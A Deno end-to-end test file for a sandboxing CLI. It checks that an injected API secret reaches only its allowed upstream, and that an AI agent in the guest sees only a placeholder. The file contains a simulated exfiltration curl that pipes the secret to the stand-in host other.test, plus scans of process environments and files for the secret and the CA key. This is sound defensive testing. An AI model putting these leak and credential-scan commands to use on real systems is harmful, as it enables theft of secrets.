/**
 * Credentials stay in the bundle (SPEC §12), end to end through the CLI, on both backends
 * (smolmachines through the fake smolvm): a bottle with an injected secret for api.test, rules
 * for rules.test, other.test and bad.test, and ca_certs holding the test upstream's own CA. The
 * upstream is an HTTPS echo server on the sandbox's `--internal` network, attached to the
 * bottle's egress network under its names once that exists.
 *
 * The sandbox's needle is the secret's value. It must reach the upstream (checked on the server
 * side) and nothing the agent can see: its variable holds a placeholder, echoes come back
 * redacted, a request carrying the value to another host is refused; and it is absent from the
 * guest's process environments and files, both containers' `docker inspect`, the state dir, the
 * bundle's log, the audit log and everything the CLI printed. The CA key stays in the bundle.
 */
import assert from "node:assert/strict";
import { type Cli, PERMISSION_FLAGS } from "../_harness/cli.ts";
import { MAIN } from "../_harness/paths.ts";
import { docker, networkIpam, removeLabelled, waitForNetwork } from "../_harness/docker.ts";
import { fileContains, filesUnder } from "../_harness/files.ts";
import { runFake } from "../_harness/fake_smolvm.ts";
import { guestName } from "../fixtures/fake_smolvm/guest.ts";
import { machineName } from "../../lib/plan/resource_names.ts";
import { agentImage, fixtureImage } from "../_harness/images.ts";
import { manifestToml } from "../_harness/manifests.ts";
import { Sandbox } from "../_harness/sandbox.ts";
import { startHttpsUpstream, upstreamRequests } from "../_harness/upstreams.ts";

const IDLE = `echo "READY"; exec sleep 600`;
const NAMES = ["api.test", "other.test", "rules.test", "tunnel.test"];
const RULES = `[{ host = "rules.test", methods = ["GET"], paths = ["/read/**"] }, ` +
  `{ host = "other.test", methods = ["GET", "POST"] }, { host = "bad.test", methods = ["GET"] }]`;
const PLACEHOLDER = /^bot-bottle-placeholder-[0-9a-f]{32}$/;

interface Rec {
  source: string;
  decision: string;
  host: string | null;
  reason: string | null;
  secret?: string;
  method?: string | null;
}

async function scenario(backend: "docker" | "smolmachines"): Promise<void> {
  const fixture = await fixtureImage();
  const sb = await Sandbox.create({
    network: true,
    fakeSmolvm: backend === "smolmachines",
    agentArchive: backend === "smolmachines",
    secretVar: "BBTEST_NEEDLE",
  });
  const needle = sb.needle;
  const upstream = `${sb.prefix}-https`;
  const printed: string[] = [];
  let cli: Cli | undefined;
  let slug = "";
  /** `exec <slug> [-i] -- sh -c <script>`: its output (everything the CLI printed is kept). */
  const sh = async (script: string, input?: string) => {
    const args = ["exec", slug, ...(input !== undefined ? ["-i"] : []), "--", "sh", "-c", script];
    const r = input === undefined ? await sb.run(args) : await runWithInput(sb, args, input);
    printed.push(r.stdout, r.stderr);
    return r;
  };
  const curl = (args: string, input?: string) =>
    sh(`curl -sS --max-time 20 -w '\\n%{http_code}' ${args}`, input);
  try {
    sb.containers.push(upstream);
    const { caPem } = await startHttpsUpstream({
      name: upstream,
      network: sb.network,
      fixture,
      names: NAMES,
      badNames: ["bad.test"],
    });
    const caFile = `${sb.dir}/upstream-ca.pem`;
    await Deno.writeTextFile(caFile, caPem);
    const manifest = await sb.writeManifest(manifestToml({
      image: await agentImage(),
      egressAllow: [...NAMES, "bad.test"],
      injected: { API_KEY: { from: "BBTEST_NEEDLE", inject: ["api.test"] } },
      caCerts: [caFile],
      rules: RULES,
      agents: { idle: IDLE },
    }));
    const dry = await sb.run([
      "start",
      "idle",
      "--dry-run",
      "--backend",
      backend,
      "--manifest",
      manifest,
    ]);
    printed.push(dry.stdout, dry.stderr);
    assert.equal(dry.code, 0, dry.stderr);
    assert.match(
      dry.stdout,
      /API_KEY <- \$BBTEST_NEEDLE \(set; injected by the bundle into requests to api\.test; the agent holds only the placeholder bot-bottle-placeholder-[0-9a-f]{32}\)/,
    );

    cli = sb.start("idle", { backend, manifest });
    slug = await cli.slug();
    await waitForNetwork(`bot-bottle-${slug}`);
    // A fixed address far from the bundle's (.2): on smolmachines this is the bundle's own
    // network, and a dynamic address could take .2 before the bundle starts.
    const { subnet } = await networkIpam(`bot-bottle-${slug}`);
    await docker([
      "network",
      "connect",
      "--ip",
      subnet.replace(/\.0\/24$/, ".200"),
      ...[...NAMES, "bad.test"].flatMap((n) => ["--alias", n]),
      `bot-bottle-${slug}`,
      upstream,
    ]);
    await cli.waitFor("stdout", /^READY$/m, 180_000);
    assert.match(
      cli.stderr,
      /bundle holds the injected secret API_KEY \(the guest gets placeholders\)/,
    );
    assert.match(cli.stderr, /guest trust: \S+\/bundle\.pem and \S+\/extra\.pem written/);

    // The guest variable is a placeholder; the bundle swaps in the value for api.test only.
    const env = await sh('printf "%s" "$API_KEY"');
    assert.match(env.stdout, PLACEHOLDER, env.stderr);
    const placeholder = env.stdout;
    const echo = await curl(
      `-H "x-api-key: $API_KEY" -H "authorization: Bearer $API_KEY" https://api.test/echo`,
    );
    assert.match(echo.stdout, /\n200$/, echo.stdout + echo.stderr);
    assert.ok(!echo.stdout.includes(needle), "the echo reached the agent unredacted");
    const body = JSON.parse(echo.stdout.slice(0, echo.stdout.lastIndexOf("\n")));
    assert.equal(body.headers["x-api-key"], placeholder);
    const seen = (await upstreamRequests(upstream)).find((q) => q.path === "/echo")!;
    const headers = Object.fromEntries(seen.headers.map(([k, v]) => [k.toLowerCase(), v]));
    assert.equal(headers["x-api-key"], needle, "the upstream got the real value");
    assert.equal(headers["authorization"], `Bearer ${needle}`);
    const b64 = await curl(`-H "x-api-key: $API_KEY" https://api.test/b64`);
    assert.ok(b64.stdout.startsWith(`${placeholder}\n`), b64.stdout);

    // The real value to another (allowed, inspected) host: refused, logged, never sent.
    const before = (await upstreamRequests(upstream)).length;
    const leak = await curl('-H "x-leak: $(cat)" https://other.test/x', needle);
    assert.match(leak.stdout, /reason: secret_exfiltration\n\n403$/, leak.stdout + leak.stderr);
    assert.equal((await upstreamRequests(upstream)).length, before);

    // A rule refuses a POST on a GET-only path before the body leaves.
    const post = await sh(
      "head -c 2097152 /dev/zero | curl -sS --max-time 30 -w '\\n%{http_code}' -X POST " +
        "--data-binary @- https://rules.test/read/x",
    );
    assert.match(post.stdout, /reason: egress_rule\n\n403$/, post.stdout + post.stderr);
    assert.ok(
      !(await upstreamRequests(upstream)).some((q) => q.host === "rules.test"),
      "the refused POST reached the upstream",
    );
    assert.match((await curl("https://rules.test/read/x")).stdout, /\n200$/);

    // An upstream whose certificate nobody trusts: a 502 naming it.
    const bad = await curl("https://bad.test/");
    assert.match(bad.stdout, /upstream TLS to bad\.test:443 failed: Certificate verify failed/);
    assert.match(bad.stdout, /\n502$/);

    // A host the bundle does not intercept keeps its own certificate (trusted via ca_certs).
    const tunnel = await sh("curl -sS -v -o /dev/null https://tunnel.test/x 2>&1");
    assert.match(tunnel.stdout, /issuer: CN=bbtest upstream CA/, tunnel.stdout);
    const inspected = await sh("curl -sS -v -o /dev/null https://api.test/x 2>&1");
    assert.match(inspected.stdout, /issuer: .*CN=bot-bottle egress CA /, inspected.stdout);

    // The CA key is the bundle's alone; the guest holds certificates only.
    const bundle = `bot-bottle-${slug}-bundle`;
    const key = await docker(["exec", bundle, "cat", "/run/bot-bottle/mitm/mitmproxy-ca.pem"]);
    const keyBody = key.stdout.split("\n").filter((l) => l && !l.startsWith("-----"))[1];
    assert.ok(keyBody && keyBody.length > 20, "no key line");
    const trust = await sh(
      'for f in "$SSL_CERT_FILE" "$NODE_EXTRA_CA_CERTS"; do ls "$f"; done; ' +
        'grep -c "PRIVATE KEY" "$SSL_CERT_FILE" "$NODE_EXTRA_CA_CERTS" || true',
    );
    assert.match(trust.stdout, /:0\n.*:0\n?$/s, trust.stdout + trust.stderr);
    const keyScan = await sh(`grep -rlF -- '${keyBody}' "$HOME" /tmp /etc 2>/dev/null; true`);
    assert.equal(keyScan.stdout.trim(), "", `the CA key is in the guest: ${keyScan.stdout}`);

    // The needle in the guest: not in this exec's environment, nor any it can read.
    const environ = await sh(
      "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -c -F -- \"$(printf %s \"$API_KEY\")\" || true",
    );
    assert.notEqual(environ.stdout.trim(), "0", "the placeholder should be in the environ scan");
    const guestEnv = await sh("cat /proc/$$/environ | tr '\\0' '\\n'");
    assert.ok(!guestEnv.stdout.includes(needle), "the value is in the agent's environment");
    // As root in the guest (docker: the agent container; smolmachines: the fake's guest
    // container, standing in for the microVM), every process and every file.
    const guest = backend === "docker" ? `bot-bottle-${slug}-agent` : guestName(machineName(slug));
    // Processes are read from the host (the tests run as root): the fake's guest has no
    // capabilities, so its root may not read another user's environ.
    const procs = { stdout: await environsOf(guest) };
    assert.ok(procs.stdout.includes(placeholder), "the scan sees the agent's environment");
    assert.ok(!procs.stdout.includes(needle), "the value is in a guest process's environment");
    const files = await docker([
      "exec",
      "-u",
      "0",
      guest,
      "sh",
      "-c",
      `grep -rlF -e '${needle}' -e '${keyBody}' / --exclude-dir=proc --exclude-dir=sys ` +
      "--exclude-dir=dev 2>/dev/null; true",
    ]);
    assert.equal(files.stdout.trim(), "", `in guest files: ${files.stdout}`);
    // The scan can find things: the bundle's CA certificate is in the guest's trust file.
    const certLine =
      (await docker(["exec", bundle, "cat", "/run/bot-bottle/mitm/mitmproxy-ca-cert.pem"]))
        .stdout.split("\n").filter((l) => l && !l.startsWith("-----"))[1];
    const certScan = await docker([
      "exec",
      "-u",
      "0",
      guest,
      "sh",
      "-c",
      `grep -rlF -e '${certLine}' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev ` +
      "2>/dev/null; true",
    ]);
    assert.match(certScan.stdout, /bundle\.pem/, "the file scan found not even the CA cert");
    const inspect = await docker(["inspect", guest, bundle]);
    if (backend === "docker") {
      // (The fake's guest gets its environment per exec, as smolvm's workload does.)
      assert.ok(inspect.stdout.includes(placeholder), "docker inspect shows the guest's env");
    }
    assert.ok(!inspect.stdout.includes(needle), "the value is in docker inspect");
    if (backend === "docker") {
      // The system store is extended too: a client that reads only it trusts the bundle's CA.
      const system = await sh(
        "env -u SSL_CERT_FILE -u CURL_CA_BUNDLE curl -sS -o /dev/null -w '%{http_code}' " +
          "https://api.test/x",
      );
      assert.equal(system.stdout, "200", system.stdout + system.stderr);
    } else {
      // smolvm's own records (state DB, Smolfile, `machine ls`) and every call the fake saw.
      for (const file of [...await filesUnder(sb.data), sb.smolvmLog]) {
        assert.ok(!(await fileContains(file, needle)), `the value is in ${file}`);
      }
      const ls = await runFake(sb, ["machine", "ls", "--json"]);
      assert.equal(ls.code, 0, ls.stderr);
      assert.ok(ls.stdout.includes(machineName(slug)), ls.stdout);
      assert.ok(!`${ls.stdout}${ls.stderr}`.includes(needle), "the value is in `machine ls`");
    }
    // verify: the injected secret's value is in no guest process's environment.
    const verify = await sb.run(["verify", slug, "--json"], { BOT_BOTTLE_VERIFY_HOSTS: "" });
    printed.push(verify.stdout, verify.stderr);
    const report = JSON.parse(verify.stdout);
    const check = report.checks.find((c: { id: string }) => c.id === "secrets");
    assert.equal(check.status, "pass", JSON.stringify(check));
    assert.match(check.detail, /the real values of 1 injected secret\(s\) are in no guest/);
    const logs = await docker(["logs", bundle]);
    assert.ok(!`${logs.stdout}${logs.stderr}`.includes(needle), "the value is in the bundle's log");

    // The audit log: what happened, by name.
    const recs = await records(sb, slug, printed);
    const has = (p: (r: Rec) => boolean, what: string) =>
      assert.ok(recs.some(p), `${what}: ${JSON.stringify(recs.slice(-20))}`);
    has(
      (r) => r.reason === "injected" && r.secret === "API_KEY" && r.host === "api.test",
      "injected",
    );
    has((r) => r.decision === "redact" && r.secret === "API_KEY", "redact");
    has((r) => r.reason === "secret_exfiltration" && r.host === "other.test", "exfiltration");
    has((r) => r.reason === "egress_rule" && r.method === "POST", "rule");
    has((r) => r.reason === "upstream_tls" && r.host === "bad.test", "upstream_tls");

    // The test's upstream leaves the bottle's network first (teardown removes that network).
    await docker(["network", "disconnect", `bot-bottle-${slug}`, upstream]);
    cli.kill("SIGINT");
    const done = await cli.wait(120_000);
    printed.push(done.stdout, done.stderr);
    cli = undefined;

    // After teardown: nothing left, and the needle nowhere the CLI wrote or printed.
    assert.deepEqual(await sb.leftovers(), []);
    for (const file of await filesUnder(sb.stateRoot, { skip: /\.tar$/ })) {
      const text = await Deno.readTextFile(file).catch(() => "");
      assert.ok(!text.includes(needle), `the value is in ${file}`);
    }
    for (const text of printed) assert.ok(!text.includes(needle), "the value is in CLI output");
  } finally {
    try {
      cli?.kill("SIGINT");
    } catch { /* exited */ }
    await cli?.done;
    if (slug) await removeLabelled(slug);
    await sb.cleanup();
  }
}

/** The environments of every process in `container`, read through the host's /proc. */
async function environsOf(container: string): Promise<string> {
  const top = await docker(["top", container, "-eo", "pid"]);
  const pids = top.stdout.trim().split("\n").slice(1).map((l) => l.trim()).filter(Boolean);
  assert.ok(pids.length > 0, `no processes in ${container}`);
  const out: string[] = [];
  for (const pid of pids) {
    const bytes = await Deno.readFile(`/proc/${pid}/environ`).catch(() => null);
    if (bytes) out.push(new TextDecoder().decode(bytes).replaceAll("\0", "\n"));
  }
  return out.join("\n");
}

async function records(sb: Sandbox, slug: string, printed: string[]): Promise<Rec[]> {
  const r = await sb.run(["logs", slug, "--json"]);
  printed.push(r.stdout, r.stderr);
  assert.equal(r.code, 0, r.stderr);
  return r.stdout.trim().split("\n").filter(Boolean).map((l) => JSON.parse(l));
}

/** Runs the CLI with `input` on its stdin (exec -i), bounded. */
async function runWithInput(
  sb: Sandbox,
  args: string[],
  input: string,
): Promise<{ code: number; stdout: string; stderr: string }> {
  const child = new Deno.Command(Deno.execPath(), {
    args: ["run", ...PERMISSION_FLAGS, MAIN, ...args],
    env: sb.env,
    clearEnv: true,
    cwd: sb.cwd,
    stdin: "piped",
    stdout: "piped",
    stderr: "piped",
    signal: AbortSignal.timeout(120_000),
  }).spawn();
  const writer = child.stdin.getWriter();
  await writer.write(new TextEncoder().encode(input));
  await writer.close();
  const out = await child.output();
  const text = new TextDecoder();
  return { code: out.code, stdout: text.decode(out.stdout), stderr: text.decode(out.stderr) };
}

Deno.test({
  name: "docker: an injected secret never reaches the agent, end to end",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: () => scenario("docker"),
});

Deno.test({
  name: "smolmachines (fake smolvm): an injected secret never reaches the agent, end to end",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: () => scenario("smolmachines"),
});
